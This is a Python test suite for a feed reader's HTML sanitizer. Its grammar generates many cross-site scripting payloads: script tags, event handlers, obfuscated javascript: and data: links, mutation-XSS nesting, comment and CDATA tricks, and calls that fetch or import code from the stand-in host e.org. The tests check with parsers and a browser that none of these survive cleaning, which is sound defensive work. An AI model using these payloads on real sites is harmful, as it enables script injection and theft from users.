"""Hostile HTML: whatever a feed sends, what is left is harmless.

The judges are two parsers that have no part in the cleaning, and a browser.
"""

from __future__ import annotations

import html
import json
import re
import time
from collections import Counter
from html.parser import HTMLParser
from random import Random
from typing import TYPE_CHECKING, Any

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from digest import markup
from tests.ingest_feeds.documents import atom, only, rss
from tests.support.pace import in_time

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Route

BASE = "https://example.org/a/page"

#: What may be in a letter, said again: the program's own list must not be its judge.
TAGS = set(
    "a abbr b blockquote br caption cite code dd del dl dt em figcaption figure h1 h2 h3 h4 h5 h6"
    " hr i img ins li ol p pre q s small strong sub sup table tbody td tfoot th thead tr u ul"
    " bdi bdo div span section article".split()
)
ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "width", "height"},
    "ol": {"start"},
    "td": {"colspan", "rowspan", "align"},
    "th": {"colspan", "rowspan", "align", "scope"},
}
VOID = {"br", "hr", "img"}
LINK = re.compile(r"(?:https?|mailto):\S")

#: `«name»` stands for one of the texts of that name.
GRAMMAR: dict[str, tuple[str, ...]] = {
    "any": (
        "<«tag»«gap»«attribute»>«any»</«tag»>",
        "<«tag»«gap»«attribute» «attribute»>«any»",
        "<«tag»«gap»«attribute»/>«any»",
        "<«tag» «attribute»",
        "«nest»",
        "«nest»",
        "«trick»",
        "«any»«any»",
        "«leaf»",
    ),
    "leaf": (
        "words",
        "<b>bold",
        "</p>",
        "</table>",
        "</«tag»>",
        "<script>«run»</script>",
        "<script src=//e.org/x.js></script>",
        "<img src=x onerror=«run»>",
        "<svg onload=«run»>",
        "<svg/onload=«run»//",
        "<iframe src=«link»></iframe>",
        '<iframe srcdoc="<script>«run»</script>"></iframe>',
        "<object data=«link»></object>",
        "<embed src=«link»>",
        "<base href=//e.org/>",
        "<meta http-equiv=refresh content='0;url=«link»'>",
        "<link rel=stylesheet href=//e.org/x.css>",
        "<style>@import '//e.org/x.css';*{background:url(//e.org/x)}</style>",
        "<form action=«link»><input name=a autofocus onfocus=«run»><button formaction=«link»>b",
        "<a href=«link»>link</a>",
        "<a href='«link»' href=https://e.org/>link</a>",
        "<img src=«link»>",
        "<input type=image src=«link» onerror=«run»>",
        "<video src=x onerror=«run»><source onerror=«run»></video>",
        "<details open ontoggle=«run»>d</details>",
        "<marquee onstart=«run»>m</marquee>",
        "<body onload=«run»>",
    ),
    "nest": (
        "<math><mtext><table><mglyph><style><!--</style>«hidden»</table></mtext></math>",
        "<math><mtext><mglyph><style><img title='</style>«hidden»'></style></mglyph></mtext>",
        "<math><annotation-xml encoding='text/html'><style>«hidden»</style></annotation-xml>",
        "<math><mi><style><!--</style>«hidden»--></mi></math>",
        "<svg><style><«tag» id='</style>«hidden»'></style></svg>",
        "<svg><desc><noscript><p title='</noscript>«hidden»'></noscript></desc></svg>",
        "<svg><foreignObject><style>«hidden»</style></foreignObject></svg>",
        "<svg><title><style><img alt='</style></title>«hidden»'></style></title></svg>",
        "<svg></p><style><a title='</style>«hidden»'>",
        "<svg><script>«run»</script><a xlink:href=«link»><text>t</text></a></svg>",
        "<svg><animate onbegin=«run» attributeName=x dur=1s><set attributeName=href to=«link»>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'/></svg>",
        "<form><math><mtext></form><form><mglyph><style></math>«hidden»",
        "<noscript><p title='</noscript>«hidden»'></noscript>",
        "<template><script>«run»</script>«any»</template>",
        "<title><p title='</title>«hidden»'></title>",
        "<textarea><p title='</textarea>«hidden»'></textarea>",
        "<xmp><p title='</xmp>«hidden»'></xmp>",
        "<iframe><p title='</iframe>«hidden»'></iframe>",
        "<noembed><p title='</noembed>«hidden»'></noembed>",
        "<select><option><style></option></select>«hidden»</style>",
        "<table><td>«any»<table><caption>«any»</table>",
        "<a><table><a href=«link»>«any»</a></table></a>",
        "<plaintext>«hidden»",
        "<frameset><frame src=«link»></frameset>",
    ),
    "trick": (
        "<!--><img src=x onerror=«run»>-->",
        "<!--->«hidden»-->",
        "<!-- --!>«hidden»-->",
        "<![CDATA[«hidden»]]>",
        "<svg><![CDATA[</svg>«hidden»]]>",
        "<!--[if gte IE 4]>«hidden»<![endif]-->",
        "<![if !mso]>«hidden»<![endif]>",
        "<?xml version='1.0'?>«hidden»",
        "<!DOCTYPE x [<!ENTITY y '«hidden»'>]>&y;",
        "<%«hidden»%>",
        "</ «hidden»>",
        "<img src=`x` onerror=`«run»`>",
        "<img alt=`x` title=`><script>«run»</script>`>",
        "<img src='x\"><script>«run»</script>'>",
        '<a title="&quot;><script>«run»</script>" href=«link»>t</a>',
        '<img alt="--><script>«run»</script>" src="x',
        "<img onerror=«run» src=x onerror='' src=y>",
        "<scr<script>ipt>«run»</scr</script>ipt>",
        "<«tag»<«tag» onload=«run»>",
        "<<script>«run»//<</script>",
        "&lt;script&gt;«run»&lt;/script&gt;",
        "&amp;lt;script&amp;gt;«run»&amp;lt;/script&amp;gt;",
        "+ADw-script+AD4-«run»+ADw-/script+AD4-",
        "\ufeff<\u0000script>«run»</script>",
        "\u2028<img src=x\u2029onerror=«run»>",
        "<p>{{«run»}}${«run»}</p>",
    ),
    "hidden": (
        "<img src=x onerror=«run»>",
        "<script>«run»</script>",
        "<svg onload=«run»>",
        "<a href=«link»>x</a>",
        "&lt;img src=x onerror=«run»&gt;",
    ),
    "tag": tuple(
        "p div a img table td svg math style title textarea xmp noscript template iframe form"
        " select option mtext mglyph foreignObject annotation-xml desc script SCRIPT ScRiPt"
        " scr\0ipt svg:script xhtml:script x:img o:p custom-tag video audio details marquee body"
        " html head base link meta object embed applet frameset li h1 pre ins nobr font button"
        " image isindex plaintext listing dialog portal keygen".split(" ")
    ),
    "gap": (" ", "/", "\t", "\n", "\f", "\r", " / ", "\0 ", "//"),
    "attribute": (
        "«handler»=«run»",
        "«handler»='«run»'",
        '«handler» = "«run»"',
        "/«handler»=«run»",
        "x/«handler»=«run»",
        "x='a' «handler»=«run»",
        'x="\'a"«handler»=«run»',
        "href=«link»",
        "href='«link»'",
        "src='«link»'",
        "action=«link»",
        "formaction=«link»",
        "xlink:href=«link»",
        "srcset='«link» 1x, //e.org/x 2x'",
        "background=«link»",
        "poster=«link»",
        "cite=«link»",
        "lowsrc=«link»",
        "style='background:url(«link»)'",
        'style="width:expression(«run»);behavior:url(//e.org/x)"',
        "class=x id=y name=z",
        "title='>«hidden»'",
        "alt='\"«handler»=«run» '",
        "lang='\" «handler»=«run»'",
        "target=_blank ping=//e.org/x rel=opener",
        "data-x=y contenteditable tabindex=1 accesskey=x autofocus",
        "xmlns=http://www.w3.org/1999/xhtml xml:base=«link»",
        "is=x slot=y part=z itemprop=w",
        "width=1 height=2 colspan=«run» start=«run»",
    ),
    "handler": tuple(
        "onload onerror onclick ONERROR oNlOaD onmouseover onfocus ontoggle onbegin onstart"
        " onanimationstart onpointerrawupdate onbeforetoggle on\0error onerror\0 xml:onload".split(
            " "
        )
    ),
    "run": (
        "alert(1)",
        "alert`1`",
        "window.alert(1)",
        "top['al'+'ert'](1)",
        "&#97;lert(1)",
        "&#x61;lert&lpar;1&rpar;",
        "\\u0061lert(1)",
        "import('//e.org/x.js')",
        "fetch('//e.org/x')",
    ),
    "link": (
        "javascript:«run»",
        "JaVaScRiPt:«run»",
        " javascript:«run»",
        "java\tscript:«run»",
        "java\nscript:«run»",
        "java&#10;script:«run»",
        "java&Tab;script:«run»",
        "java&NewLine;script&colon;«run»",
        "&#106;avascript:«run»",
        "&#0000106avascript:«run»",
        "&#x6A;avascript:«run»",
        "\x01javascript:«run»",
        "&#1;javascript:«run»",
        "\x00javascript:«run»",
        "\u00a0javascript:«run»",
        "\u2028javascript:«run»",
        "javascript\u200b:«run»",
        "javascript://e.org/%0a«run»",
        "vbscript:msgbox(1)",
        "livescript:«run»",
        "data:text/html,<script>«run»</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=«run»>",
        "feed:javascript:«run»",
        "view-source:https://e.org/",
        "file:///etc/passwd",
        "blob:https://e.org/x",
        "about:blank",
        "//e.org/x",
        "/\\e.org/x",
        "https:e.org",
        "http:/e.org",
        "HTTPS://e.org/x",
        "https://e.org/x?a=1&b='2'",
        'https://e.org/"><script>«run»</script>',
        "mailto:a@example.org",
        "../x?y#z",
        "#x",
        "?x",
        "//[x",
        "&quot;onerror=«run» ",
    ),
}
SLOT = re.compile("«([a-z]+)»")
DEEPEST = 5


def hostile(choose: Callable[[Sequence[str]], str], start: str = "any", depth: int = 0) -> str:
    """Write a piece of the grammar; `choose` says which."""
    if start == "any" and depth > DEEPEST:
        start = "leaf"
    return SLOT.sub(lambda slot: hostile(choose, slot[1], depth + 1), choose(GRAMMAR[start]))


@st.composite
def attacks(draw: st.DrawFn) -> str:
    """Generate pieces of the grammar, as hypothesis chooses."""
    return hostile(lambda texts: draw(st.sampled_from(texts)))


#: Bits of markup in no order at all.
NOISE = st.lists(
    st.one_of(
        st.sampled_from(
            "< > </ /> <! <!-- --> <? & ; # = \" ' ` / : - [ ] a b p x script style img svg math td"
            " table on href src onerror=alert(1) href=javascript:alert(1) &lt; &#60; &quot; &nbsp;"
            " \0 \ufeff \u2028 😀 <p> </p> <b> <table> <td> <li> <a> </a> <svg> <style>"
            " </style> <![CDATA[ ]]> width=1".split(" ")
        ),
        st.sampled_from(" \t\n\f\r"),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=3),
    ),
    max_size=30,
).map("".join)


class Reader(HTMLParser):
    """Reads what was cleaned, and notes all that should not be there."""

    def __init__(self, fragment: str) -> None:
        """Read it all."""
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.links: set[str] = set()
        self.words: Counter[str] = Counter()
        self.feed(fragment)
        self.close()
        self.faults += [f"<{tag}> is open" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge a tag."""
        self.faults += faults_of(tag, attrs)
        self.links |= {value or "" for name, value in attrs if name in {"href", "src"}}
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Judge whether tags are closed in order."""
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> closes another")

    def handle_data(self, data: str) -> None:
        """Count characters, without the mark that may stand before a document."""
        self.words.update("".join(data.replace("\ufeff", "").split()))

    def handle_comment(self, data: str) -> None:
        """None may be left."""
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        """None may be left."""
        self.faults.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        """None may be left."""
        self.faults.append(f"instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        """None may be left."""
        self.faults.append(f"declaration {data!r}")


def faults_of(tag: str, attributes: Any) -> list[str]:
    """Return what a tag should not be or have."""
    faults = [] if tag in TAGS else [f"<{tag}>"]
    allowed = ATTRIBUTES.get(tag, set()) | {"lang", "dir"}
    for name, value in attributes:
        if name not in allowed:
            faults.append(f"<{tag} {name}>")
        elif name in {"href", "src"} and not LINK.match(re.sub(r"[\x00-\x20]", "", value).lower()):
            faults.append(f"<{tag} {name}={value!r}>")
    return faults


def faults(clean: str) -> list[str]:
    """Return what two parsers find fault with in a cleaned fragment."""
    around = f"<!DOCTYPE html><html><body><div>{clean.replace(chr(0), '')}</div></body></html>"
    body = lxml.html.document_fromstring(around).find("body")
    assert body is not None
    read = [
        fault
        for element in body.iterdescendants()
        for fault in (
            faults_of(element.tag, element.items())
            if isinstance(element.tag, str)
            else [f"node {element!r}"]
        )
    ]
    return Reader(clean).faults + read


@given(st.one_of(NOISE, attacks()))
@settings(max_examples=300, deadline=None)
def test_only_what_is_allowed_comes_out(fragment: str) -> None:
    """No other tag, no handler, no style, no comment; web links only; balanced."""
    clean = markup.safe_html(fragment, BASE)

    assert [] == faults(clean)


@given(st.one_of(NOISE, attacks()))
@settings(max_examples=150, deadline=None)
def test_what_is_clean_stays_so_and_loses_nothing(fragment: str) -> None:
    """It is cleaned again before it is printed.

    Not always to the same characters: without the tags between them that are not allowed, a link
    may stand in a link, or a heading in a heading, and HTML parts those when it is read again.
    """
    once = markup.safe_html(fragment, BASE)
    twice = markup.safe_html(once, BASE)

    assert [] == faults(twice)
    assert Reader(once).links == Reader(twice).links
    assert Reader(once).words == Reader(twice).words


def element(tag: str, inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Generate an element with hostile attributes."""
    attribute = st.builds(
        lambda name, value: f' {name}="{html.escape(value)}"',
        st.sampled_from(
            ["href", "src", "title", "alt", "onclick", "style", "class", "width", "lang"]
        ),
        st.one_of(st.sampled_from(GRAMMAR["link"]), st.text(max_size=5)),
    )
    attributes = st.lists(attribute, max_size=3).map("".join)
    return st.builds(
        lambda attributes, inner: (
            f"<{tag}{attributes}>" + ("" if tag in VOID else f"{inner}</{tag}>")
        ),
        attributes,
        inner,
    )


def mixed(*parts: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Generate a few parts one after another."""
    return st.lists(st.one_of(*parts), max_size=3).map("".join)


WORDS = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=6).map(html.escape)
INLINE = mixed(WORDS, *(element(tag, WORDS) for tag in ("a", "em", "img", "br", "script", "font")))
BLOCKS = mixed(
    *(element(tag, INLINE) for tag in ("p", "h2", "pre", "style", "center")),
    element("ul", mixed(element("li", INLINE))),
    element("table", element("tr", mixed(element("td", INLINE), element("th", INLINE)))),
    st.just("<!-- c -->"),
)


@given(mixed(BLOCKS, element("blockquote", BLOCKS), element("div", BLOCKS)))
def test_orderly_html_is_cleaned_once_and_for_all(fragment: str) -> None:
    """The second time changes nothing."""
    clean = markup.safe_html(fragment, BASE)

    assert [] == faults(clean)
    assert clean == markup.safe_html(clean, BASE)
    assert clean == markup.safe_html(clean)


HERE = "https://pictures.example.org/a.png"


@pytest.mark.parametrize(
    "attributes",
    """width="1"|height="1"|width="0"|width='1'|width=1|WIDTH=1|width="1px"|width="01"|width="001px"
    |width="1.5"|width=" 1 "|width="&#32;1"|width="0%"|width="0.0%"|width=".5"|width="+1"
    |width="1" height="600"|width="600" height="1"|hidden|hidden=""|hidden="hidden"
    |style="display:none"|style="DISPLAY : NONE !important"|style="color:red;display:none;x:y"
    |style="visibility:hidden"|style="width:1px;height:1px"|style="width:1px"|style="height:0"
    |style="border:0; height: 1px !important"|style="max-height:0"|style="max-width:1px"
    |style="width:0%"|style="width:1.5px"|style='width:01px'|style="width:1"
    |width="600" style="width:1px"
    """.replace("\n    ", "").split("|"),
)
def test_a_picture_that_nobody_sees_is_gone(attributes: str) -> None:
    """It counts readers: a pixel, or hidden, however that is written."""
    assert "<p>a</p>" == markup.safe_html(f'<p>a<img src="{HERE}" {attributes}></p>')
    assert "<p>a</p>" == markup.safe_html(f'<p>a<img {attributes} src="{HERE}"/></p>')


@pytest.mark.parametrize(
    "attributes",
    """|alt="hidden"|alt="display:none"|alt="width=1"|width="100"|width="10"|width="2"|width="19px"
    |width="100%"|width="1%"|width="1.5%"|width="a"|width=""|width="x1"|class="hidden"
    |style="max-width:100%;height:auto"|style="width:100px"|style="min-width:0"|style="width:10%"
    |style="border-width:1px"|style="line-height:1"|style="height:0.5em"|style="width:1em"
    |style="overflow:hidden"|style="mso-width:1px"|style="display:block"
    """.replace("\n    ", "").split("|"),
)
def test_a_picture_that_is_seen_stays(attributes: str) -> None:
    """Without its style, and with its size."""
    clean = markup.safe_html(f'<img src="{HERE}" {attributes}>')

    assert f'<img src="{HERE}"' in clean
    assert ("style" in clean, " hidden=" in clean) == (False, False)


@pytest.mark.parametrize(
    "url",
    [
        "https://feeds.feedburner.com/~r/example/~4/abc",
        "http://feedproxy.google.com/~r/example/~4/abc",
        "https://pixel.wp.com/b.gif?host=e.org",
        "//pixel.wp.com/b.gif?host=e.org",
        "https://stats.wordpress.com/b.gif?v=noscript",
        "https://ad.doubleclick.net/ad/x",
        "https://b.scorecardresearch.com/p?c1=2&c2=3",
        "https://pixel.quantserve.com/pixel/p.gif",
        "https://www.google-analytics.com/collect?v=1",
        "https://region1.google-analytics.com/g/collect?v=1",
        "https://ssl.google-analytics.com/__utm.gif?x",
        "https://www.facebook.com/tr?id=1&ev=PageView",
        "https://example.us1.list-manage.com/track/open.php?u=1",
        "https://click.mail.example.org/open.aspx?ffcb10=1",
        "https://u1.ct.example.org/wf/open?upn=1",
        "https://counter.theconversation.com/content/1/count.gif",
        "HTTPS://PIXEL.WP.COM/g.gif",
    ],
)
def test_a_known_counter_is_gone_whatever_its_size(url: str) -> None:
    """It need not say how small it is."""
    assert "ab" == markup.safe_html(f'a<img src="{html.escape(url)}" alt="">b', BASE)


@pytest.mark.parametrize(
    "url",
    [
        "https://notdoubleclick.net/a.png",
        "https://example.org/doubleclick.net/a.png",
        "https://example.org/a.png?from=https://pixel.wp.com/",
        "https://feeds.feedburner.com/logo.png",
        "https://i0.wp.com/example.org/a.png",
        "https://example.org/open.aspx",
        "https://example.org/collect",
        "https://www.facebook.com/travel.png",
    ],
)
def test_a_picture_that_is_no_counter_stays(url: str) -> None:
    """Their neighbours and namesakes."""
    assert f'<img src="{url}">' == markup.safe_html(f'<img src="{url}">')


def test_what_looks_like_an_attribute_in_the_text_stays() -> None:
    """Only tags are searched."""
    text = '<p>The tag &lt;ol start="x"&gt; has start="x" and width="1" style="x"</p>'

    assert text == markup.safe_html(text)


@pytest.mark.parametrize(
    "value",
    ["0" * 200_000 + "9", "0." * 100_000, ";" * 200_000, "display :" * 20_000, " " * 200_000],
)
def test_no_picture_takes_long(value: str) -> None:
    """However its size is written."""
    started = time.process_time()
    markup.safe_html(f'<img src="{HERE}" width="{value}" style="{value};width:{value}">')

    assert in_time(time.process_time() - started, 1)


CASES = [hostile(Random(seed).choice) for seed in range(40)]


@pytest.mark.parametrize("attack", CASES)
def test_no_feed_format_lets_anything_through(attack: str) -> None:
    """RSS, Atom and JSON Feed all clean what they bring."""
    attack = re.sub("[\0-\x08\x0b\x0c\x0e-\x1f]", "", attack)
    escaped = html.escape(attack)
    section = attack.replace("]]>", "]]&gt;")
    bodies = [
        only(rss(f"<title>A</title><description>{escaped}</description>")).body,
        only(rss(f"<title>A</title><description><![CDATA[{section}]]></description>")).body,
        only(atom(f'<id>1</id><title>A</title><content type="html">{escaped}</content>')).body,
        only(atom(f'<id>1</id><title>A</title><summary type="html">{escaped}</summary>')).body,
        only(json_feed(attack)).body,
    ]

    assert [] == [fault for body in bodies for fault in faults(body)]


@pytest.mark.parametrize(
    "inner",
    [
        '<p onclick="alert(1)" style="x:y">a<script>alert(1)</script></p>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        '<a href="java&#10;script:alert(1)">a</a><img src="x" onerror="alert(1)"/>',
        '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext><p onload="alert(1)"/>'
        "</m:mtext></m:math>",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>",
        "<p><![CDATA[<img src=x onerror=alert(1)>]]>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<!-- --><p title='--&gt;&lt;script&gt;'>a</p>",
    ],
)
def test_xhtml_in_atom_is_cleaned_as_well(inner: str) -> None:
    """It is XML first, and HTML afterwards."""
    xhtml = f'<div xmlns="http://www.w3.org/1999/xhtml">{inner}</div>'
    body = only(atom(f'<id>1</id><title>A</title><content type="xhtml">{xhtml}</content>')).body

    assert [] == faults(body)


def json_feed(content: str) -> str:
    """Write a JSON Feed of one item."""
    item = {"id": "1", "url": "https://example.org/1", "title": "A", "content_html": content}
    return json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "title": "F", "items": [item]}
    )


#: Whatever runs says so on the console, in every frame.
HOOK = """for (const name of ['alert', 'confirm', 'prompt', 'print', 'fetch'])
  window[name] = () => console.log('RAN');"""
#: Every handler there may be is called, and everything written anew as an editor would.
TOUCH = """() => {
  const names = ['click', 'load', 'error', 'focus', 'mouseover', 'toggle', 'animationstart',
                 'begin', 'start', 'beforetoggle', 'pointerrawupdate'];
  for (const around of document.querySelectorAll('.case')) {
    for (const found of around.querySelectorAll('*'))
      for (const name of names) found.dispatchEvent(new Event(name));
    around.innerHTML = around.innerHTML;
  }
}"""
#: What is not as it should be in the tree that the browser made.
FOUND = """() => [...document.querySelectorAll('.case, .case *')].flatMap(found => [
  ...(found.namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [found.namespaceURI]),
  ...[...found.attributes].map(a => a.name).filter(name => /^on|style|^id$|:/.test(name)),
  ...('href' in found && found.href ? [found.protocol] : []),
  ...('src' in found && found.src ? [new URL(found.src).protocol] : []),
])"""
#: These run in any browser where nobody cleans them.
FIRING = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
)
LOADING = "<style>@import 'https://e.org/x.css'</style><iframe src=https://e.org/></iframe>"


def opened(page: Page, fragments: Sequence[str]) -> tuple[list[str], list[str]]:
    """Show fragments; return what ran, and the requests that were no pictures from the Web."""
    ran: list[str] = []
    left: list[str] = []
    shown = "".join(f'<div class="case">{fragment}</div>\n' for fragment in fragments)

    def said(message: ConsoleMessage) -> None:
        if message.text == "RAN":
            ran.append(message.text)

    def asked(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    def answer(route: Route) -> None:
        request = route.request
        if request.url == BASE and request.is_navigation_request():
            route.fulfill(
                body=f"<!DOCTYPE html><body>{shown}", content_type="text/html;charset=utf-8"
            )
            return
        if request.resource_type != "image" or not request.url.startswith(("http:", "https:")):
            left.append(request.url)
        route.abort()

    page.on("console", said)
    page.on("dialog", asked)
    page.add_init_script(HOOK)
    page.route("**/*", answer)
    page.goto(BASE, wait_until="load")
    page.evaluate(TOUCH)
    page.wait_for_load_state("networkidle")
    return ran, left


def test_nothing_runs_in_a_browser(browser: Browser) -> None:
    """Hundreds of attacks in one page; a few that are not cleaned show that it would be seen."""
    many = [hostile(Random(seed).choice) for seed in range(400)]
    with browser.new_context() as context:
        for attack in FIRING:
            ran, _ = opened(context.new_page(), [attack])
            assert ran, attack
        _, left = opened(context.new_page(), [LOADING])
        assert {"https://e.org/x.css", "https://e.org/"} == set(left)

        page = context.new_page()
        ran, left = opened(
            page, [markup.safe_html(attack, BASE) for attack in (*FIRING, LOADING, *many)]
        )
        assert ([], []) == (ran, left)
        assert len(many) + len(FIRING) + 1 == page.locator(".case").count()
        assert {"https:", "http:", "mailto:"} >= set(page.evaluate(FOUND))
